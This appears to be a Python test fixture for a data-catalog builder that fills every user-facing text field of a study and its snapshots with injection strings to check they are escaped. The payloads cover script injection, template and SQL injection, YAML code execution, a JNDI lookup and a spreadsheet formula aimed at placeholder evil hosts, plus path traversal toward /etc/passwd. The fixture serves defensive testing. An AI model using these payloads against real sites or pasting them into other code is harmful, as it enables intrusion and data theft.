"""A project of which every text that comes from outside is an injection, and what each would have done."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pandas as pd
from projects import study_of
from samples import STUDY, make_snapshot

from builder.catalog.package import write_snapshot
from builder.catalog.snapshot import SourceRecord
from builder.catalog.tree import Group, Metric, MetricTree

NAMES = [
    "<script>window.hacked=1</script>",
    "\"><img src=x onerror='window.hacked=1'>",
    "{{ 7*7 }}{% raw %}",
    "[a](javascript:alert(1)) **b** `c` _d_",
    '=HYPERLINK("http://evil"),\'; DROP TABLE models; --',
    "../../etc/passwd 😀 " + "x" * 300,
]
"""Of models, each of one kind, to be found again on a page."""

EVERYTHING = (
    "</script><script>window.hacked=1</script><!-- --><svg onload=window.hacked=1>"
    "\" autofocus onfocus='window.hacked=1' {{ 7*7 }}{% include '/etc/passwd' %}{{ config }} "
    "[x](javascript:window.hacked=1) ![y](http://evil.invalid/y.png) <http://evil.invalid> | `a` **b** "
    "'; DROP TABLE models; -- !!python/object/apply:os.system ['touch hacked'] ${jndi:ldap://evil.invalid} "
    "../../../hacked %2e%2e%2fhacked \\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e "
    "]]> --> */ `${window.hacked=1}` {:onclick='window.hacked=1'} [[toc]] [TOC] :smile: \u202egnp.exe"
)
"""HTML, Markdown, Jinja, SQL, YAML, JSON in a script, a path, and a mark that turns text around, in one."""

FORMULA = "=cmd|'/C calc'!A0,"
ADDRESS = 'https://evil.invalid/"onmouseover="window.hacked=1"><script>window.hacked=1</script>'
"""What the patterns of study files let pass as an address."""


def text(place: str) -> str:
    """The injection, told apart by the place where it stands."""
    return f"{FORMULA} {place} {EVERYTHING}"


ENTRY = f"@misc{{key,\n\n note = {{{text('entry')}}},\n}}"
"""BibTeX, with an empty line, where Markdown would begin anew."""

TREE = MetricTree.ordered(
    [
        Group("neural", text("neural"), role="neural", reference=text("reference of neural")),
        Group(text("group"), text("name of group"), "neural", reference=text("reference of group")),
        Metric(text("metric a"), text("name a"), text("group"), reference=text("reference a")),
        Metric(text("metric b"), text("name b"), text("group"), reference=text("reference b")),
        Metric("../../hacked", "</svg><script>window.hacked=1</script>", "neural"),
        Group("behavior", text("behavior"), role="behavior"),
        Metric("consistency", text("consistency"), "behavior", reference=text("reference c")),
    ]
)


def study_text() -> str:
    """The study of the samples with injections wherever a text may be said."""

    def said(key: str, place: str) -> str:
        return f"{key} = {json.dumps(text(place))}"

    found = STUDY.replace('title = "Tiny"', said("title", "title"))
    found = found.replace(
        'summary = "Six models made by hand."',
        said("summary", "summary") + f"\nauthors = [{json.dumps(text('author'))}]\n"
        + said("models_are", "noun"),
    )  # fmt: skip
    found = found.replace(
        'title = "Everything"', said("title", "everything") + "\n" + said("description", "what everything is")
    )
    found = found.replace('[selections.frequent]\ntitle = "Frequent"\nmin_coverage = 0.8\n', "")
    found = found.replace('source = "hand"', said("source", "source") + f"\nhomepage = '''{ADDRESS}'''")
    found = found.replace(
        'licence = "CC0-1.0"', said("licence", "licence") + f"\nlicence_url = '''{ADDRESS}'''"
    )
    found = found.replace(
        'attribution = "nobody"',
        said("attribution", "attribution")
        + "\nredistribute = true\n"
        + said("citation", "citation")
        + f"\nbibtex = {json.dumps(ENTRY)}",
    )
    return found + f"\n[model_groups]\nby = {json.dumps(text('attribute'))}\n" + said("title", "halves")


def make_hostile(root: Path, cells: Mapping[str, Sequence[Any]], dates: Sequence[str]) -> None:
    """Write the project: a study, and its snapshots with each table that a snapshot may have."""
    folder = root / "data" / "studies"
    folder.mkdir(parents=True)
    study = study_of(folder, study_text())
    for date in dates:
        snapshot = make_snapshot(
            cells,
            TREE,
            names=NAMES,
            published=[("alpha", "neural", 0.5), ("alpha", "", 0.25)],
            attributes={
                text("attribute"): [text("x"), text("x"), text("x"), text("y"), text("y"), text("y")]
            },
            snapshot=date,
        )
        models = snapshot.models.assign(source_id=[text(f"id {i}") for i in range(len(NAMES))])
        snapshot = replace(
            snapshot,
            title=text("snapshot"),
            models=models,
            sources=(
                SourceRecord("javascript:window.hacked=1", "0" * 64, text("day"), text("file"), text("by")),
            ),
            truth=pd.DataFrame({"model": ["alpha"], "factor": [text("factor")], "value": [1.0]}),
        )
        write_snapshot(snapshot, root / "data" / "snapshots" / "tiny" / date, study)
